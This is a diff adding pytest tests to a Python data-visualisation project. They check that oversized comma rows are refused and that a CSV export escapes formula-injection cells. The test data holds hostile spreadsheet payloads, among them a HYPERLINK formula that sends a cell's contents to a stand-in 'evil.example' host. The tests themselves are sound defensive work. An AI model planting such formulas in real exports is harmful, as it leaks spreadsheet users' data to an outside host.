@@ -546,3 +546,47 @@ def test_an_unknown_sample_title_is_a_data_error():
     with pytest.raises(DataError) as caught:
         sample("Anscombe's quartet V")
     assert "no sample called" in str(caught.value)
+
+
+# ---- a line of commas (issue 21, item 7): refused before pandas parses it
+def test_a_line_of_a_million_commas_is_refused_with_a_sentence():
+    raw = b"x,y\n1,2\n" + b"," * 1_000_000 + b"\n3,4\n"
+    with pytest.raises(DataError) as caught:
+        read_csv(raw)
+    assert str(caught.value) == "The file's line 3 has 1,000,001 values; a row has at most 500 (one per column of the header)."
+    with pytest.raises(DataError, match="line 2 has 2,000,001 values"):  # a file with CR line ends
+        read_csv(b"x;y\r" + b";" * 2_000_000 + b"\r1;2\r")
+
+
+def test_separators_inside_quotes_do_not_widen_a_row():
+    text = "x,y,note\n" + "".join(f'{i},{2 * i},"{"," * 600}"\n' for i in range(5))
+    data = read_csv(text.encode())
+    assert data.feature_names == ("x",) and data.target_name == "y" and data.m == 5
+    with pytest.raises(DataError, match="line 2 has 501 values"):
+        read_csv(b"x,y\n" + b",".join([b"1"] * 501) + b"\n")
+
+
+# ---- the data export (issue 21, item 4): OWASP's CSV-injection rule
+def test_the_data_export_writes_formula_names_as_text_and_numbers_as_numbers():
+    import csv as csv_module
+    import hashlib
+
+    from gdviz import pipeline
+    from gdviz.state import UPLOAD, PageState, Upload
+
+    names = ['=HYPERLINK("https://evil.example/?"&A1;"x")', "+x", "@SUM(A1)", "a\t-t", "a;=1+2"]
+    target = "-y"
+    rows = "\n".join(",".join(str(v) for v in (i, -i, 2 * i, i % 3, 0.5 * i, -3.25 * i)) for i in range(1, 9))
+    head = io.StringIO()
+    csv_module.writer(head, lineterminator="\n").writerow(names + [target])
+    raw = (head.getvalue() + rows + "\n").encode()
+    upload = Upload(hashlib.sha256(raw).hexdigest(), "hostile.csv", raw=raw)
+    text = pipeline.data_csv(PageState(source=UPLOAD, upload=upload))
+    header, *body = list(csv_module.reader(io.StringIO(text)))
+    assert header == ["'" + names[0], "'+x", "'@SUM(A1)", "a\t'-t", "a;'=1+2", "'-y"]
+    assert [pipeline._cell(t) for t in ("\tx", "\rx", "x-y", "plain")] == ["'\tx", "'\rx", "x-y", "plain"]
+    for cell in header:  # no cell, nor a piece another separator makes, begins a formula
+        for piece in re.split(r"[;,|\t\r\n]", cell):
+            assert not piece.startswith(("=", "+", "-", "@")), cell
+    assert [float(v) for v in body[1]] == [2.0, -2.0, 4.0, 2.0, 1.0, -6.5]
+    assert body[1][1] == "-2.0" and body[1][5] == "-6.5"  # a negative number stays a number
